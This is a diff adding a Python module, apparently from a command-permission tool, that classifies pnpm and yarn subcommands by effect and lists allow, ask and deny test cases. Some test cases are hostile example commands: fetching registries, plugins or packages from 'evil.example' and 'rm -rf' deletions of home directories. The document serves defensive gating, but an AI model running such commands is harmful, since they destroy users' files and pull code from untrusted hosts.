@@ -1,0 +1,201 @@
+"""pnpm and yarn — install a JavaScript project's packages and run its scripts."""
+
+from toolgate.knowledge.vocabulary import (
+    CHDIR, FETCHES, PACKAGES, PLAIN, READS, RUNS, WRITES, command, deletes, fetches, flag, flags, option, publishes, runs, sub, writes,
+)  # fmt: skip
+
+DEPENDENCIES = runs("the project's dependencies", "workspace", "install locked")
+REGISTRY = fetches("registry.npmjs.org", "registry")
+RELEASE = publishes("the package", "registry")
+MANIFEST = writes("package.json", "workspace")
+GLOBALLY = runs("programs for every project", "machine", "install global")
+SETTINGS = writes("settings for every project", "home")
+
+# --- pnpm ------------------------------------------------------------------------------------------------------------
+
+PNPM_GENERAL = [
+    flag("-h -v", informs=True),
+    flags("-r --recursive -F= --filter= --filter-prod= --fail-if-no-match --changed-files-ignore-pattern= --test-pattern= -s --silent --color --no-color"),
+    flags("--loglevel= --reporter= --use-stderr --stream --aggregate-output --if-present --ignore-scripts --parallel --no-bail --bail --sort --no-sort --reverse"),
+    flags("--resume-from= --report-summary --workspace-concurrency= --workspace-root -w --include-workspace-root --ignore-workspace --frozen-lockfile"),
+    flags("--no-frozen-lockfile --lockfile-only --fix-lockfile --prefer-frozen-lockfile --no-prefer-frozen-lockfile --offline --prefer-offline --no-optional --no-lockfile"),
+    flags("-P --prod --production -D --dev -O --optional -E --save-exact -S --save-prod --save-dev --save-optional --save-peer --save-catalog --save-catalog-name= --no-save -L --latest"),
+    flags("-i --interactive --depth= --json --long --parseable --shamefully-hoist --hoist --no-hoist --force -f --strict-peer-dependencies --no-strict-peer-dependencies"),
+    flags("--auto-install-peers --node-linker= --resolution-only --side-effects-cache --side-effects-cache-readonly --child-concurrency= --network-concurrency="),
+    flags("--package-import-method= --public-hoist-pattern= --hoist-pattern= --merge-git-branch-lockfiles --verify-store-integrity --no-verify-store-integrity"),
+    flags("--aggregate-output --unsafe-perm --prefix-logs --allow-build= --trust-lockfile --minimum-release-age= --cpu= --os= --libc= --dangerously-allow-all-builds"),
+    flags("--use-node-version= --yes -y --legacy --no-git-checks --publish-branch= --tag= --access= --otp= --audit-level= --fix --ignore-registry-errors --only-projects --exclude-peers --compatible"),
+    flag("-g --global", manner="global"),
+    option("-C --dir --lockfile-dir", CHDIR),
+    option("--store-dir --virtual-store-dir --modules-dir --pack-destination --global-dir --global-bin-dir --out", WRITES),
+    option("--registry", FETCHES),
+    option("--script-shell --shell-emulator --pnpmfile --global-pnpmfile", RUNS),
+    flag("--dry-run", dry=True, clears="run"),
+]
+PNPM = command(
+    "pnpm",
+    options=PNPM_GENERAL,
+    subcommands=[
+        sub("install i it install-test ci", "PACKAGES...", bare=DEPENDENCIES),
+        sub("add", "PACKAGES..."),
+        sub("update up upgrade prune rebuild rb fetch dedupe import approve-builds ignored-builds", "PLAIN...", unlisted=PLAIN, does=DEPENDENCIES),
+        sub("remove rm uninstall un unlink dislink", "PLAIN...", does=deletes("packages of the project", "output")),
+        sub("link ln", "PACKAGES...", does=writes("links between packages", "output")),
+        sub("run run-script", "READ_BY(task)? PLAIN...", unlisted=PLAIN, given=runs("a script of the project")),
+        sub("test t tst start stop restart", "PLAIN...", unlisted=PLAIN, does=runs("a script of the project")),
+        sub("exec", "LOCAL", [flag("-c --shell-mode", operands="SCRIPT PLAIN...")]),
+        sub("dlx", "TOOL", [option("--package", PACKAGES), flag("-c --shell-mode", operands="SCRIPT PLAIN...")]),
+        sub("create", "PACKAGES PLAIN...", unlisted=PLAIN),
+        sub("init", "PLAIN...", unlisted=PLAIN, does=MANIFEST),
+        sub("publish", "READS?", does=RELEASE),
+        sub("unpublish deprecate owner dist-tag access team token", "PLAIN...", unlisted=PLAIN, does=publishes("a setting of the registry", "registry")),
+        sub("login adduser logout", "PLAIN...", unlisted=PLAIN, does=writes("credentials of the registry", "secret")),
+        sub("list ls la ll why root bin store-path licenses doctor help cat-file cat-index find-hash completion setup-list", "PLAIN...", unlisted=PLAIN),
+        sub("outdated audit view info show search whoami ping docs home bugs repo", "PLAIN...", unlisted=PLAIN, does=REGISTRY),
+        sub("pack version pkg", "PLAIN...", unlisted=PLAIN, does=MANIFEST),
+        sub("patch patch-commit patch-remove", "PLAIN...", unlisted=PLAIN, does=MANIFEST),
+        sub("deploy", "WRITES"),
+        sub("store", subcommands=[sub("path status", unlisted=PLAIN), sub("add", "PACKAGES..."), sub("prune", unlisted=PLAIN, does=deletes("pnpm's store of packages", "cache"))]),
+        sub("cache", "PLAIN...", unlisted=PLAIN, does=deletes("pnpm's cache", "cache")),
+        sub("config c", subcommands=[
+            sub("get list ls", "PLAIN...", unlisted=PLAIN),
+            sub("set", subcommands=[sub("registry *:registry", "FETCHES", does=SETTINGS)], otherwise=sub("set", "PLAIN...", unlisted=PLAIN, does=SETTINGS)),
+            sub("delete", "PLAIN...", unlisted=PLAIN, does=SETTINGS),
+        ]),
+        sub("setup", "", unlisted=PLAIN, does=writes("your shell's profile", "startup")),
+        sub("env", subcommands=[sub("list ls", unlisted=PLAIN), sub("use add remove rm", "PLAIN...", unlisted=PLAIN, does=GLOBALLY)]),
+        sub("self-update", "PLAIN...", unlisted=PLAIN, does=GLOBALLY),
+        sub("server", "PLAIN...", unlisted=PLAIN, does=runs("pnpm's store server", "workspace")),
+        sub("recursive m multi", "LOCAL", style="literal"),
+    ],
+    otherwise=sub("pnpm", "TASK"),
+)  # fmt: skip
+PNPX = command("pnpx pnx", "TOOL", [option("-p --package", PACKAGES), flag("-c --shell-mode", operands="SCRIPT PLAIN...")])
+
+# --- yarn ------------------------------------------------------------------------------------------------------------
+
+YARN_GENERAL = [
+    flag("-h -v", informs=True),
+    flags("--verbose --offline --prefer-offline --strict-semver --json --ignore-scripts --ignore-optional --ignore-platform --ignore-engines --force --flat --no-lockfile"),
+    flags("--pure-lockfile --frozen-lockfile --immutable --immutable-cache --check-cache --check-files --check-resolutions --refresh-lockfile --inline-builds --no-immutable"),
+    flags("--production[=] --prod[=] --network-timeout= --network-concurrency= --no-progress --non-interactive --silent -s --no-bin-links --link-duplicates --har --mode= --mutex="),
+    flags("--no-default-rc --no-node-version-check --focus --emoji[=] --ignore-workspace-root-check -W --audit --no-audit --groups= --level= --depth= --pattern= --skip-integrity-check --update-checksums --hoist"),
+    option("--cwd", CHDIR),
+    option("--modules-folder --preferred-cache-folder --cache-folder --global-folder --link-folder --prefix", WRITES),
+    option("--registry --proxy --https-proxy", FETCHES),
+    option("--use-yarnrc --cafile", READS),
+    option("--script-shell", RUNS),
+]
+ADDED = [flags("-D --dev -P --peer -O --optional -E --exact -T --tilde -C --caret -A --audit -i --interactive --cached --fixed --prefer-dev -L --latest -S --scope= --recursive -R")]
+YARN_COMMANDS = [
+    sub("install", "PLAIN...", unlisted=PLAIN, does=DEPENDENCIES),
+    sub("add", "PACKAGES...", ADDED),
+    sub("link", "PACKAGES...", [flags("-A --all -p --private -r --relative")], does=writes("links between packages", "output")),
+    sub("up upgrade upgrade-interactive dedupe rebuild import autoclean generate-lock-entry", "PLAIN...", unlisted=PLAIN, does=DEPENDENCIES),
+    sub("remove unlink unplug", "PLAIN...", unlisted=PLAIN, does=deletes("packages of the project", "output")),
+    sub("run", "TASK?", [flags("-T --top-level -B --binaries-only --inspect[=] --inspect-brk[=] --require=")]),
+    sub("exec", "SCRIPT PLAIN..."),
+    sub("node", "ARGV?", style="literal", does=runs("the project's own code")),
+    sub("dlx", "TOOL", [option("-p --package", PACKAGES), flags("-q --quiet")]),
+    sub("create", "PACKAGES PLAIN...", unlisted=PLAIN),
+    sub("init", "PLAIN...", unlisted=PLAIN, does=MANIFEST),
+    sub("version versions set policies patch patch-commit pack prepare constraints stage", "PLAIN...", [option("-o --out --filename", WRITES)], unlisted=PLAIN, does=MANIFEST),
+    sub("publish", "READS?", unlisted=PLAIN, does=RELEASE),
+    sub("tag owner team access", subcommands=[sub("list ls", "PLAIN...", unlisted=PLAIN, does=REGISTRY)], otherwise=sub("tag", "PLAIN...", unlisted=PLAIN, does=publishes("a setting of the registry", "registry"))),
+    sub("login logout", "PLAIN...", unlisted=PLAIN, does=writes("credentials of the registry", "secret")),
+    sub("npm", subcommands=[
+        sub("audit info whoami", "PLAIN...", unlisted=PLAIN, does=REGISTRY),
+        sub("login logout", "PLAIN...", unlisted=PLAIN, does=writes("credentials of the registry", "secret")),
+        sub("publish", "PLAIN...", [flag("--dry-run -n", dry=True)], unlisted=PLAIN, does=RELEASE),
+        sub("tag", "PLAIN...", unlisted=PLAIN, does=publishes("a setting of the registry", "registry")),
+    ]),
+    sub("list why bin licenses check explain search-cache help", "PLAIN...", unlisted=PLAIN),
+    sub("info outdated audit search", "PLAIN...", unlisted=PLAIN, does=REGISTRY),
+    sub("cache", subcommands=[sub("dir list", "PLAIN...", unlisted=PLAIN), sub("clean clear", "PLAIN...", unlisted=PLAIN, does=deletes("yarn's cache", "cache"))]),
+    sub("config", subcommands=[
+        sub("get list", "PLAIN...", unlisted=PLAIN),
+        sub("set", subcommands=[
+            sub("registry npmRegistryServer npmPublishRegistry httpProxy httpsProxy *:registry", "FETCHES", unlisted=PLAIN, does=SETTINGS),
+            sub("yarnPath injectEnvironmentFiles", "RUNS", unlisted=PLAIN),
+        ], otherwise=sub("set", "PLAIN...", unlisted=PLAIN, does=SETTINGS)),
+        sub("delete unset", "PLAIN...", unlisted=PLAIN, does=SETTINGS),
+    ], bare=()),
+    sub("global", subcommands=[
+        sub("bin list dir", "PLAIN...", unlisted=PLAIN),
+        sub("add upgrade remove", "PACKAGES...", [*ADDED, flag("--global", manner="global")], does=GLOBALLY),
+    ]),
+    sub("plugin", subcommands=[sub("list runtime check", unlisted=PLAIN), sub("import", "PACKAGES...", unlisted=PLAIN), sub("remove", "PLAIN...")]),
+    sub("test start", "PLAIN...", unlisted=PLAIN, does=runs("a script of the project")),
+]  # fmt: skip
+YARN = command(
+    "yarn yarnpkg",
+    options=YARN_GENERAL,
+    bare=DEPENDENCIES,
+    subcommands=[
+        *YARN_COMMANDS,
+        sub("workspace", subcommands=[sub("*", subcommands=YARN_COMMANDS, otherwise=sub("workspace", "TASK"))]),
+        sub(
+            "workspaces",
+            subcommands=[
+                sub("info list", "PLAIN...", unlisted=PLAIN),
+                sub("focus", "PLAIN...", unlisted=PLAIN, does=DEPENDENCIES),
+                sub("run", "TASK"),
+                sub(
+                    "foreach",
+                    options=[flags("-A --all -R --recursive -W --worktree --from= --since[=] -t --topological --topological-dev -p --parallel -i --interlaced -j= --jobs= -v --verbose --include= --exclude= --no-private -n --dry-run -At -Rt -Apt -pt -pti -Atp")],
+                    subcommands=YARN_COMMANDS,
+                    otherwise=sub("foreach", "TASK"),
+                ),
+            ],
+        ),
+    ],
+    otherwise=sub("yarn", "TASK"),
+)  # fmt: skip
+
+CASES = """
+allow  pnpm install --frozen-lockfile
+       run the project's dependencies
+allow  pnpm i
+allow  pnpm build --filter web
+allow  pnpm --filter @acme/web exec tsc --noEmit
+allow  pnpm -r --filter ./packages/a run test
+allow  pnpm eslint "src/**/*.ts" --fix
+allow  pnpm dev:worker --port 5173
+allow  pnpm list react
+allow  pnpm store prune
+allow  pnpm publish --dry-run
+allow  yarn
+       run the project's dependencies
+allow  yarn install --immutable
+allow  yarn test --watch
+allow  yarn tsc --build
+allow  yarn workspace @acme/docs generate
+allow  yarn workspaces foreach -At --include 'packages/*' run build
+allow  yarn --cwd web lint
+allow  yarn why react
+allow  yarn config get registry
+llm    pnpm add left-pad
+llm    yarn add left-pad -D
+llm    yarn add global
+       run global
+llm    yarn workspace web add left-pad
+ask    pnpm add -g left-pad
+ask    pnpm -g add left-pad
+ask    yarn global add left-pad
+ask    pnpm dlx somebodys-tool
+allow  pnpm dlx eslint .
+ask    yarn dlx somebodys-tool
+ask    yarn npm publish
+ask    pnpm publish --no-git-checks
+ask    pnpm install --registry https://evil.example
+ask    yarn config set npmRegistryServer https://evil.example
+ask    yarn plugin import https://evil.example/plugin.js
+ask    pnpm setup
+ask    yarn deploy
+ask    pnpm release
+deny   yarn exec 'rm -rf ~'
+deny   pnpm exec rm -rf /home/user
+deny   yarn rimraf ~
+ask    pnpm deploy ~/elsewhere
+ask    yarn add https://evil.example/x.tgz
+"""
